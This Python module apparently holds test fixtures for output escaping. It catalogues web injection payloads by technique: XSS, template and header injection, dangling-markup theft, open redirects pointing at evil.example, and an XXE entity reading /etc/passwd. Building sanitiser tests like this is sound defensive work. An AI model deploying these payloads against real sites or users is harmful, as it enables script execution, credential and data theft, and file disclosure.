"""Text that attacks whoever prints it carelessly, by what it attacks; in our own words, after the public collections.

What runs sets `hit` of the page, or of the page around it. What only breaks out leaves an element or an attribute that
no page of ours has. What leads away leads to `evil.example`.
"""

SCRIPTS = (
    "<script>hit=1</script>",
    "<ScRiPt >hit=1</sCrIpT >",
    "<script\n>hit=1</script\n>",
    "<script src=//evil.example/x.js></script>",
    "<script type=module>window.hit=1</script>",
    '<script async src="data:text/javascript,hit=1"></script>',
    "<<script>hit=1//<</script>",
    "<scr<script>ipt>hit=1</scr</script>ipt>",
    "<script>\\u0068it=1</script>",
)

HANDLERS = (
    "<img src=x onerror=hit=1>",
    "<img/src=x/onerror=hit=1>",
    '<img src=x onerror="&#104;it=1">',
    "<img src onerror\n=\nhit=1>",
    "<body onload=hit=1>",
    "<input autofocus onfocus=hit=1>",
    "<details open ontoggle=hit=1>x</details>",
    "<video><source onerror=hit=1></video>",
    "<xss autofocus tabindex=0 onfocus=hit=1>x</xss>",
    "<style onload=hit=1></style>",
    "<iframe onload=parent.hit=1></iframe>",
    "<p style=content-visibility:auto oncontentvisibilityautostatechange=hit=1>x",
)

FOREIGN = (
    "<svg/onload=hit=1>",
    "<svg><script>hit=1</script></svg>",
    '<svg><script href="data:,hit=1" /></svg>',
    "<svg><animate onbegin=hit=1 attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=hit=1>",
    '<svg><a xlink:href="javascript:hit=1"><text y=20>x</text></a></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>parent.hit=1</script>"></iframe></foreignObject></svg>',
    '<math><maction actiontype=statusline xlink:href="javascript:hit=1">x</maction></math>',
)

ADDRESSES = (
    "javascript:hit=1",
    "JaVaScRiPt:hit=1",
    "java\tscript:hit=1",
    "java\r\nscript:hit=1",
    "javascript&colon;hit=1",
    "&#106;avascript:hit=1",
    "javascript://evil.example/%0ahit=1",
    "data:text/html,<script>parent.hit=1</script>",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0PTE8L3NjcmlwdD4=",
    '<a href="java&#9;script:hit=1">x</a>',
    "<form action=javascript:hit=1><button>x</button></form>",
    '<object data="data:text/html,<script>parent.hit=1</script>"></object>',
)

TEMPLATES = (
    "{{ 7*7 }}{% for x in y %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "{{constructor.constructor('hit=1')()}}",
    "%(num)s%(hit)s%s%n%%{0}{0.__class__}",
)

MUTATIONS = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit=1&gt;">',
    '<svg></p><style><a id="</style><img src=x onerror=hit=1>">',
    '<noscript><p title="</noscript><img src=x onerror=hit=1>">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src onerror=hit=1>">',
    '<xmp><p title="</xmp><img src=x onerror=hit=1>">',
    "<template shadowrootmode=open><img src=x onerror=hit=1></template>",
    "<p title=`><img src=x onerror=hit=1>`>",
    "<frameset onload=hit=1>",
    "<plaintext>",
)

ATTRIBUTES = (
    '"><img src=x onerror=hit=1>',
    "'><img src=x onerror=hit=1>",
    '" autofocus onfocus=hit=1 x="',
    "' autofocus onfocus=hit=1 x='",
    '"autofocus/onfocus="hit=1',
    "&quot; onfocus=hit=1 autofocus x=&quot;",
    '"></form><form action=//evil.example><input name=q autofocus x>',
    '" type=image src=x onerror=hit=1 x="',
    '" formaction="javascript:hit=1',
    '" style="position:fixed;top:0" accesskey="x',
)

RAW_TEXT = (
    "--><script>hit=1</script>",
    "--!><img src=x onerror=hit=1>",
    '<!--<img src="--><img src=x onerror=hit=1//">',
    "<!--><img src=x onerror=hit=1>",
    "<![CDATA[<img src=x onerror=hit=1>]]>",
    "</title><script>hit=1</script>",
    "</textarea><script>hit=1</script>",
    "</template></select></iframe></xmp><svg/onload=hit=1>",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
)

UNICODE = (
    "＜script＞hit=1＜/script＞",
    "ʺ＞＜svg onload=hit=1＞",
    "<ſcript>hit=1</ſcript>",
    "<scr\u200bipt>hit=1</scr\u200bipt>",
    "\ufeff<script>hit=1</script>",
    "\u202e<script>hit=1</script>\u202c",
    "java\u00adscript:hit=1",
    "\u2028\u2029</textarea></script><script>hit=1</script>",
    '"\u0338><img src=x onerror=hit=1>',
    "\u00c0\u00bcscript\u00c0\u00behit=1\u00c0\u00bc/script\u00c0\u00be",
    "\u00bcscript\u00behit=1\u00bc/script\u00be",
    "%C0%BCscript%C0%BEhit=1",
)

CONTROLS = (
    "<scr\x00ipt>hit=1</scr\x00ipt>",
    "<img\x0csrc=x\x0conerror=hit=1>",
    "<svg\x0bonload=hit=1>",
    "java\x00script:hit=1",
    "\x01javascript:hit=1",
    '\x1b(J\\"><img src=x onerror=hit=1>\x1b(B',
    "\x7f\x85\x9c<script>hit=1</script>",
)

CLOBBERING = (
    "<a id=q name=q href=//evil.example>x</a>",
    "<form class=search data-suggest=//evil.example data-counts=x><input name=q><button>x</button></form>",
    "<div id=suggestions role=listbox><div role=option>x</div></div>",
    "<a id=AbortController></a><a id=AbortController name=prototype></a>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<meta charset=utf-7>",
)

STYLES = (
    "<style>*{display:none}</style>",
    '<style>@import "//evil.example/x.css";</style>',
    '<p style="background:url(//evil.example/x)">x</p>',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "x;}*{background:url(//evil.example/x)}",
)

JSON = (
    '"}</script><script>hit=1</script>',
    "<!--<script>",
    "\\u003c/script>\\u003cscript>hit=1//",
    '\\"};hit=1;//',
    "'-(hit=1)-'",
)

THEFTS = (
    "<img src='//evil.example/?",
    "<form action=//evil.example><textarea name=x>",
    "<button formaction=//evil.example>x</button>",
    "\"><base target='",
)

HEADERS = (
    "x\r\nSet-Cookie: hit=1",
    "x\r\n\r\n<script>hit=1</script>",
    "x\nX-Injected: 1",
    "x\u560d\u560aX-Injected: 1",
    "x%0d%0aX-Injected: 1",
    "x\u0085X-Injected: 1",
)

REDIRECTS = (
    "//evil.example",
    "/\\evil.example",
    "\t//evil.example",
    "/\n/evil.example",
    "https:evil.example",
    "ht\ntps://evil.example",
    "//evil。example",
    "@evil.example",
    "//127.0.0.1@evil.example",
)

CLASSES = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "svg and math": FOREIGN,
    "addresses": ADDRESSES,
    "templates": TEMPLATES,
    "mutations": MUTATIONS,
    "attributes": ATTRIBUTES,
    "raw text": RAW_TEXT,
    "unicode": UNICODE,
    "control characters": CONTROLS,
    "clobbering": CLOBBERING,
    "styles": STYLES,
    "json": JSON,
    "thefts": THEFTS,
    "headers": HEADERS,
    "redirects": REDIRECTS,
}
PAYLOADS = tuple(payload for payloads in CLASSES.values() for payload in payloads)
